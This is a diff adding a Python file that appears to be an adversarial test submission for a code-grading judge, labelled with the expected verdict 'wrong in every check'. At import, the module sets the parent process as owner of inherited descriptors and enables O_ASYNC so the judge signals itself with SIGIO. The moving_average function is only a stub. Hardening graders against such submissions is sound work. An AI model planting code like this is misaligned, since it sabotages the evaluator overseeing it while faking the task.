@@ -1,0 +1,19 @@
+# verdict: wrong in every check  - makes the judge the owner of the channel's signals, so that its own next message sends it SIGIO
+import fcntl
+import os
+
+
+def _attack(descriptor):
+    for command, argument in ((fcntl.F_SETOWN, os.getppid()), (fcntl.F_SETOWN, -os.getppid()), (fcntl.F_SETFL, os.O_ASYNC)):
+        try:
+            fcntl.fcntl(descriptor, command, argument)
+        except OSError:
+            pass
+
+
+for _descriptor in range(3, 64):
+    _attack(_descriptor)
+
+
+def moving_average(values, window, out):
+    out[:] = 0
